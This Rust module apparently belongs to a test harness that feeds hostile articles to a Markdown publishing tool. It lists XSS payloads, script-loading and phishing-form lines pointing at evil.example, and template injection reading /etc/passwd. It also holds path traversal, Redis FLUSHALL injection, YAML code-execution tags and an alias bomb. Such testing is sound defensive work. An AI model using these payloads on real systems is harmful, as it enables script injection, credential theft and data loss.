//! What a hostile article tries.

use super::edit::Edit;
use super::rng::Rng;

/// One attempt to do harm: to the reader's browser, the templates, the store, or the machine
/// that reads the article.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Attack {
    /// A script in the body.
    Script,
    /// A link or image whose URL runs code.
    ScriptUrl,
    /// An attribute that runs code.
    EventHandler,
    /// A frame, a form, a style sheet, a redirection.
    Embedding,
    /// Markup without an end, which would swallow what follows.
    OpenMarkup,
    /// Tags that close in the wrong order, or close what is not theirs.
    MisnestedTags,
    /// Template syntax in the title.
    TemplateTitle,
    /// Fields that would break out of an attribute, a comment or a script.
    Breakout,
    /// Characters that turn the direction of what follows.
    BidiOverride,
    /// Characters that steer terminals and end strings.
    Controls,
    /// A slug that leads out of the tree.
    PathTraversal,
    /// Commands of the store's protocol, after a line end.
    Protocol,
    /// Raw tags inside each other, deeper than pages may nest.
    DeepTags,
    /// Quotes or lists inside each other, deeper than Markdown may nest.
    DeepQuotes,
    /// Brackets inside each other, deeper than front matter may nest.
    DeepYaml,
    /// YAML aliases that multiply.
    AliasBomb,
    /// A YAML tag that makes some parsers run code.
    YamlTag,
    /// Front matter above 64 KiB.
    HugeFrontMatter,
    /// A title of thousands of characters.
    HugeTitle,
    /// References that make a page many times the size of its source.
    FootnoteFlood,
    /// An image source whose URL runs code.
    ScriptImageSource,
}

/// Blocks of Markdown.
const SCRIPTS: [&str; 5] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "text <scr<script>ipt>alert(1)</script> text",
    "<script\n>alert(1)</script\n>",
    "<svg><script>alert(1)</script></svg>",
];
const SCRIPT_URLS: [&str; 7] = [
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#x73;cript:alert(1))",
    "<a href=\"java\tscript:alert(1)\">click</a>",
    "<a href=' javascript&colon;alert(1)'>click</a>",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![image](vbscript:msgbox) and <javascript:alert(1)>",
];
const EVENT_HANDLERS: [&str; 5] = [
    "<img src=x onerror=alert(1)>",
    "<p onclick=\"alert(1)\">text</p>",
    "<details open ontoggle=alert(1)>text</details>",
    "text <b/onmouseover=alert(1)>text</b>",
    "<svg onload=alert(1)>",
];
const EMBEDDINGS: [&str; 7] = [
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=x>",
    "<style>body { display: none } @import \"//evil.example/x.css\";</style>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\"><base href=//evil.example>",
    "<img name=body id=body src=\"https://example.org/a.png\" style=\"position:fixed\">",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
];
const OPEN_MARKUP: [&str; 6] = [
    "<!-- all of this is gone",
    "<script>alert(1)",
    "<textarea>",
    "<plaintext>",
    "<![CDATA[ <b>",
    "<a href=\"https://example.org/",
];
const MISNESTED: [&str; 4] = [
    "<b><i><a href=/x></b></i><p>text</a>",
    "<table><tr><td><div></table></div><b>text",
    "</div></article></main></body></html><h1>text</h1>",
    "<ul><li><p><b><li></ul></p></b>text",
];

/// Texts of fields, quoted for YAML.
const TEMPLATES: [&str; 4] = [
    "\"{{ 7 * 7 }}\"",
    "\"{% include '/etc/passwd' %}\"",
    "\"{{ article.__class__ }} ${7 * 7} <%= 7 * 7 %>\"",
    "\"{# {{ config }} #}{% for x in range(999999999) %}{% endfor %}\"",
];
const BREAKOUTS: [&str; 5] = [
    "\"--></script><script>alert(1)</script>\"",
    "\"<!--<script>\"",
    "\"\\\"><img src=x onerror=alert(1)>\"",
    "\"']]></style></title><svg onload=alert(1)>\"",
    "\"<!--anp:0123456789abcdef-->\"",
];
const BIDI: [&str; 3] = [
    "\"invoice\u{202e}fdp.exe\"",
    "\"\u{2067}text\u{2066} // check\u{2069}\"",
    "\"\\u202Etxet\"",
];
const CONTROLS: [&str; 3] = [
    "\"a\\0b\"",
    "\"\\e[2J\\e]0;title\\a\"",
    "\"a\\x9bb\\x7f\\u200b\"",
];
const PROTOCOL: [&str; 2] = [
    "\"x\\r\\n*1\\r\\n$8\\r\\nFLUSHALL\\r\\n\"",
    "\"x\\n\\nSHUTDOWN NOSAVE\\n\"",
];

impl Attack {
    /// All of them, each as frequent as the others.
    pub const ALL: [Self; 21] = [
        Self::Script,
        Self::ScriptUrl,
        Self::EventHandler,
        Self::Embedding,
        Self::OpenMarkup,
        Self::MisnestedTags,
        Self::TemplateTitle,
        Self::Breakout,
        Self::BidiOverride,
        Self::Controls,
        Self::PathTraversal,
        Self::Protocol,
        Self::DeepTags,
        Self::DeepQuotes,
        Self::DeepYaml,
        Self::AliasBomb,
        Self::YamlTag,
        Self::HugeFrontMatter,
        Self::HugeTitle,
        Self::FootnoteFlood,
        Self::ScriptImageSource,
    ];

    /// Whether the article is refused with an error, also without `--strict`. The others are
    /// published, disarmed, and most of them with a warning.
    #[must_use]
    pub fn is_refused(self) -> bool {
        match self {
            Self::Script
            | Self::ScriptUrl
            | Self::EventHandler
            | Self::Embedding
            | Self::OpenMarkup
            | Self::MisnestedTags
            | Self::TemplateTitle
            | Self::Breakout
            | Self::BidiOverride
            | Self::Controls
            | Self::PathTraversal
            | Self::Protocol => false,
            Self::DeepTags
            | Self::DeepQuotes
            | Self::DeepYaml
            | Self::AliasBomb
            | Self::YamlTag
            | Self::HugeFrontMatter
            | Self::HugeTitle
            | Self::FootnoteFlood
            | Self::ScriptImageSource => true,
        }
    }

    /// Puts the attempt into an article.
    pub(super) fn spoil(self, n: u64, rng: &mut Rng, edit: &mut Edit<'_>) {
        match self {
            Self::Script => edit.put_block(rng.word(&SCRIPTS)),
            Self::ScriptUrl => edit.put_block(rng.word(&SCRIPT_URLS)),
            Self::EventHandler => edit.put_block(rng.word(&EVENT_HANDLERS)),
            Self::Embedding => edit.put_block(rng.word(&EMBEDDINGS)),
            Self::OpenMarkup => edit.put_block(rng.word(&OPEN_MARKUP)),
            Self::MisnestedTags => {
                let soup = rng.word(&MISNESTED);
                edit.put_block(soup.repeat(rng.range(1, 8) as usize));
            }
            Self::TemplateTitle => edit.set("title", rng.word(&TEMPLATES)),
            Self::Breakout => anywhere(rng.word(&BREAKOUTS), rng, edit),
            Self::BidiOverride => anywhere(rng.word(&BIDI), rng, edit),
            Self::Controls => anywhere(rng.word(&CONTROLS), rng, edit),
            Self::Protocol => anywhere(rng.word(&PROTOCOL), rng, edit),
            Self::PathTraversal => {
                let path = rng.word(&[
                    "../../etc/passwd",
                    "/etc/passwd",
                    "..%2f..%2fsecret",
                    "a/../..",
                ]);
                // The number keeps two of them from claiming one route.
                edit.set("slug", format!("\"{path}-{n:06}\""));
            }
            Self::DeepTags => {
                let tags = rng.word(&["<b><i>", "<div><p><b>", "<ul><li>", "<sub><sup>"]);
                edit.put_block(tags.repeat(rng.range(101, 400) as usize));
            }
            Self::DeepQuotes => {
                let marker = rng.word(&["> ", ">", "- ", "1. "]);
                edit.put_block(format!(
                    "{}deep",
                    marker.repeat(rng.range(65, 300) as usize)
                ));
            }
            Self::DeepYaml => {
                let depth = rng.range(17, 900) as usize;
                edit.set(
                    "notes_of_notes",
                    format!("{}{}", "[".repeat(depth), "]".repeat(depth)),
                );
            }
            Self::AliasBomb => edit.add(alias_bomb(rng.range(3, 12)).trim_end().as_bytes()),
            Self::YamlTag => {
                let tag = rng.word(&[
                    "!!python/object/apply:os.system [id]",
                    "!ruby/object:Gem::Installer {i: x}",
                    "!!js/function 'function () { alert(1) }'",
                ]);
                edit.set("owner", tag);
            }
            Self::HugeFrontMatter => {
                let line = "# a remark that nobody will ever read, again and again\n";
                edit.add(
                    line.repeat(rng.range(1_200, 2_400) as usize)
                        .trim_end()
                        .as_bytes(),
                );
            }
            Self::HugeTitle => edit.set("title", "very ".repeat(rng.range(41, 4_000) as usize)),
            Self::FootnoteFlood => {
                let references = "[^1] ".repeat(rng.range(5_000, 8_000) as usize);
                edit.put_block(format!("{references}\n\n[^1]: note"));
            }
            Self::ScriptImageSource => {
                let url = rng.word(&[
                    "javascript:alert(1)",
                    "data:image/svg+xml,x",
                    "file:///etc/passwd",
                ]);
                edit.set("    url", url);
            }
        }
    }
}

/// Gives one of the texts that pages show another value.
fn anywhere(value: &str, rng: &mut Rng, edit: &mut Edit<'_>) {
    let label = rng.word(&["title", "summary", "owner", "ai_brief", "    caption"]);
    edit.set(label, value);
}

/// Each line nine times the one before: with ten of them three billion entries.
fn alias_bomb(levels: u32) -> String {
    let mut bomb = "bomb_0: &bomb_0 [boom, boom]\n".to_owned();
    for level in 1..=levels {
        let aliases = format!("*bomb_{}, ", level - 1).repeat(9);
        bomb += &format!("bomb_{level}: &bomb_{level} [{aliases}]\n");
    }
    bomb
}
